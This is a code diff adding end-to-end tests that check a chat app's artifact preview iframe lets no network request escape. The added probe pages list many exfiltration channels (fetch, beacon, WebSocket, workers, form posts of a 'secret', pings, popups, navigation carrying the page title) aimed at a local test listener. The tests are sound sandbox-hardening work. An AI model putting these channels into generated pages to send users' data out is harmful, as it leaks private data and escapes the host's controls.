@@ -1,4 +1,5 @@
 import { createSocket } from 'node:dgram';
+import { createServer, type Socket } from 'node:net';
 import { writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -78,6 +79,103 @@ if (window.name !== 'nested') {
 document.getElementById('rtc').textContent = 'WebRTC: ' + result;
 </script>`;
 
+/**
+ * Every way out of the frame that is not a navigation, at a TCP listener the test opens: requests
+ * by script (fetch, XHR, fetchLater, beacon, WebSocket, EventSource, WebTransport), resources
+ * (images, styles, fonts, media, objects, SVG references), resource hints and speculation rules,
+ * workers, pings, attribution and payment and identity fetches, a report-uri, the top window,
+ * popups, forms, a nested frame's own markup, and a document written over the first. None may
+ * even open a connection.
+ */
+const networkPage = (port: number) => {
+  const url = (what: string) => `http://127.0.0.1:${port}/?d=${what}`;
+  const later = `<img src="${url('rewritten-img')}"><link rel="preconnect" href="${url('rewritten-preconnect')}"><p>Tried every way</p>`;
+  return `<!doctype html>
+<meta http-equiv="x-dns-prefetch-control" content="on">
+<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${url('report')}">
+<link rel="preconnect" href="${url('preconnect')}"><link rel="dns-prefetch" href="${url('dns-prefetch')}">
+<link rel="prefetch" href="${url('prefetch')}"><link rel="prerender" href="${url('prerender')}"><link rel="modulepreload" href="${url('modulepreload')}">
+<link rel="preload" as="image" href="${url('preload-image')}"><link rel="preload" as="fetch" href="${url('preload-fetch')}"><link rel="stylesheet" href="${url('stylesheet')}">
+<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url('speculation-prefetch')}"]}],"prerender":[{"source":"list","urls":["${url('speculation-prerender')}"]}]}</script>
+<style>@import url(${url('import')}); @font-face { font-family: x; src: url(${url('font')}) } p { font-family: x; cursor: url(${url('cursor')}), auto }</style>
+<p style="background: url(${url('background')})">Trying the network</p>
+<img src="${url('img')}"><img srcset="${url('srcset')} 1x"><input type="image" src="${url('input-image')}"><img attributionsrc="${url('attributionsrc')}" src="data:,">
+<svg><image href="${url('svg-image')}" width="9" height="9"/><use href="${url('svg-use')}#x"/></svg>
+<video src="${url('video')}" poster="${url('poster')}" autoplay muted><track src="${url('track')}" default></video><audio src="${url('audio')}" autoplay></audio>
+<object data="${url('object')}"></object><embed src="${url('embed')}"><fencedframe></fencedframe>
+<a id="ping" href="#here" ping="${url('ping')}">ping</a><a id="top" href="${url('a-top')}" target="_top">top</a><a id="blank" href="${url('a-blank')}" target="_blank">blank</a>
+<form id="post" action="${url('form')}" method="post"><input name="d" value="secret"></form><form id="top-form" action="${url('form-top')}" target="_top"></form>
+<iframe srcdoc="<img src='${url('child-img')}'><link rel=preconnect href='${url('child-preconnect')}'>"></iframe>
+<script>
+var url = function (what) { return 'http://127.0.0.1:${port}/?d=' + what; };
+var attempts = [
+  function () { fetch(url('fetch')).catch(function () {}); },
+  function () { var x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.send(); },
+  function () { fetchLater(url('fetch-later'), { activateAfter: 0 }); },
+  function () { navigator.sendBeacon(url('beacon'), 'secret'); },
+  function () { new WebSocket('ws://127.0.0.1:${port}/'); },
+  function () { new EventSource(url('event-source')); },
+  function () { new WebTransport('https://127.0.0.1:${port}/'); },
+  function () { new Worker(url('worker')); },
+  function () { new SharedWorker(url('shared-worker')); },
+  function () { navigator.serviceWorker.register(url('service-worker')).catch(function () {}); },
+  function () { new Worker(URL.createObjectURL(new Blob(["fetch('" + url('from-worker') + "')"]))); },
+  function () { new PaymentRequest([{ supportedMethods: url('payment') }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(function () {}); },
+  function () { navigator.credentials.get({ identity: { providers: [{ configURL: url('fedcm'), clientId: 'x' }] } }).catch(function () {}); },
+  function () { document.querySelector('fencedframe').config = new FencedFrameConfig(url('fenced-frame')); },
+  function () { var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url('speculation-dynamic')] }] }); document.head.append(s); },
+  function () { var l = document.createElement('link'); l.rel = 'preconnect'; l.href = url('preconnect-dynamic'); document.head.append(l); },
+  function () { document.getElementById('ping').click(); },
+  function () { document.getElementById('top').click(); },
+  function () { document.getElementById('blank').click(); },
+  function () { document.getElementById('post').submit(); },
+  function () { document.getElementById('top-form').submit(); },
+  function () { top.location.href = url('top-location'); },
+  function () { parent.location.href = url('parent-location'); },
+  function () { open(url('popup')); },
+  function () { open(url('popup-noopener'), '_blank', 'noopener'); },
+];
+attempts.forEach(function (attempt) { try { attempt(); } catch (error) {} });
+setTimeout(function () { document.open(); document.write(${JSON.stringify(later).replace(/</g, '\\x3c')}); document.close(); }, 500);
+</script>`;
+};
+
+/**
+ * Navigations: a frame it nests, a nested frame's refresh, and the frame's own. The app's and the
+ * frame's policies refuse each before any request, but Chromium has already looked the host up
+ * and connected to it: the limit decision 0022 states.
+ */
+const leavingPage = (port: number) => `<!doctype html>
+<title>secret from the conversation</title>
+<p>Leaving</p>
+<iframe src="http://127.0.0.1:${port}/?d=nested-frame"></iframe>
+<iframe srcdoc="<meta http-equiv=refresh content='0;url=http://127.0.0.1:${port}/?d=nested-refresh'>"></iframe>
+<script>setTimeout(function () { location.href = 'http://127.0.0.1:${port}/?d=' + encodeURIComponent(document.title); }, 300);</script>`;
+
+/** A TCP listener that counts connections and the ones that carried a request. */
+async function startListener() {
+  const seen = { connections: 0, requests: [] as string[] };
+  const sockets = new Set<Socket>();
+  const server = createServer((socket) => {
+    seen.connections++;
+    sockets.add(socket);
+    socket.on('error', () => {});
+    socket.once('data', (data) => {
+      seen.requests.push(data.toString('latin1').split('\r\n')[0] ?? '');
+      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok');
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  const port = typeof address === 'object' && address ? address.port : 0;
+  // Chromium keeps a preconnected socket idle for later; close drops it rather than wait.
+  const close = () => new Promise<void>((resolve) => {
+    server.close(() => resolve());
+    for (const socket of sockets) socket.destroy();
+  });
+  return { seen, port, close };
+}
+
 const block = (identifier: string, type: string, title: string, fence: string, code: string) => `:::artifact{identifier="${identifier}" type="${type}" title="${title}"}\n\`\`\`${fence}\n${code}\n\`\`\`\n:::`;
 const KINDS_REPLY = [
   'Three more:',
@@ -91,8 +189,17 @@ const system = (body: unknown) => (body as ChatRequest).messages.filter((message
 const toldAboutArtifacts = (body: unknown) => system(body).includes(':::artifact{');
 const lastUserText = (body: unknown) => String((body as ChatRequest).messages.filter((message) => message.role === 'user').at(-1)?.content ?? '');
 let stunPort = 0;
+let tcpPort = 0;
 const WEBRTC_REPLY = () => `Here it is.\n\n${block('webrtc-probe', 'text/html', 'WebRTC probe', 'html', webrtcPage(stunPort))}\n\nDone.`;
-const replyTo = (body: unknown) => (lastUserText(body).includes('three more') ? KINDS_REPLY : lastUserText(body).includes('WebRTC') ? WEBRTC_REPLY() : REPLY);
+const probeReply = (identifier: string, title: string, html: string) => `Here it is.\n\n${block(identifier, 'text/html', title, 'html', html)}\n\nDone.`;
+function replyTo(body: unknown): string {
+  const text = lastUserText(body);
+  if (text.includes('three more')) return KINDS_REPLY;
+  if (text.includes('WebRTC')) return WEBRTC_REPLY();
+  if (text.includes('the network')) return probeReply('network-probe', 'Network probe', networkPage(tcpPort));
+  if (text.includes('leave the frame')) return probeReply('leaving-probe', 'Leaving probe', leavingPage(tcpPort));
+  return REPLY;
+}
 
 let app: RunningApp;
 let model: FakeServer;
@@ -119,6 +226,13 @@ async function askInNewChat(text: string) {
   await box.fill(text);
   await expect.poll(() => page.getByRole('button', { name: 'Send message' }).isEnabled(), { timeout: 15_000 }).toBe(true);
   await box.press('Enter');
+}
+
+/** Asks for an artifact in a new chat and opens it in the panel. */
+async function openArtifactFrom(text: string, title: string) {
+  await askInNewChat(text);
+  await page.getByRole('button', { name: `Open ${title}` }).click({ timeout: 20_000 });
+  return { panel: page.getByRole('complementary', { name: title }), frame: page.frameLocator(`iframe[title="Preview of ${title}"]`) };
 }
 
 afterAll(async () => {
@@ -260,6 +374,43 @@ describe('artifacts', () => {
       expect(packets).toBeGreaterThan(0);
     } finally {
       socket.close();
+    }
+  });
+
+  it('lets nothing but a navigation out of the preview: no request and no connection reaches a listener', async () => {
+    const listener = await startListener();
+    tcpPort = listener.port;
+    try {
+      const { frame } = await openArtifactFrom('Try the network from an artifact', 'Network probe');
+      await frame.getByText('Tried every way').waitFor({ timeout: 15_000 });
+      await page.waitForTimeout(3000);
+      expect(listener.seen).toEqual({ connections: 0, requests: [] });
+      await page.screenshot({ path: `${SHOTS}artifacts-network-1280.png` });
+
+      // The browser itself can reach the listener: a page of its own connects at once.
+      const control = await page.context().newPage();
+      await control.goto(`http://127.0.0.1:${listener.port}/?d=control`);
+      await control.close();
+      expect(listener.seen.requests).toEqual(['GET /?d=control HTTP/1.1']);
+    } finally {
+      await listener.close();
+    }
+  });
+
+  it('refuses every navigation out of the preview before a request, though Chromium has connected by then (the limit the panel states)', async () => {
+    const listener = await startListener();
+    tcpPort = listener.port;
+    try {
+      const { panel } = await openArtifactFrom('Now leave the frame from an artifact', 'Leaving probe');
+      // A preconnect (a DNS lookup and a TCP handshake; for https a TLS one) leaves first, to a host and port the
+      // artifact chose. If this fails, Chromium stopped it: drop the panel's note and decision 0022's limit.
+      await expect.poll(() => listener.seen.connections, { timeout: 20_000 }).toBeGreaterThan(0);
+      await page.waitForTimeout(3000);
+      // No request: the app's frame-src refuses the frame's own navigation, the frame's default-src the nested ones.
+      expect(listener.seen.requests).toEqual([]);
+      await panel.getByText('can make your browser connect to a web address it names', { exact: false }).waitFor();
+    } finally {
+      await listener.close();
     }
   });
 });
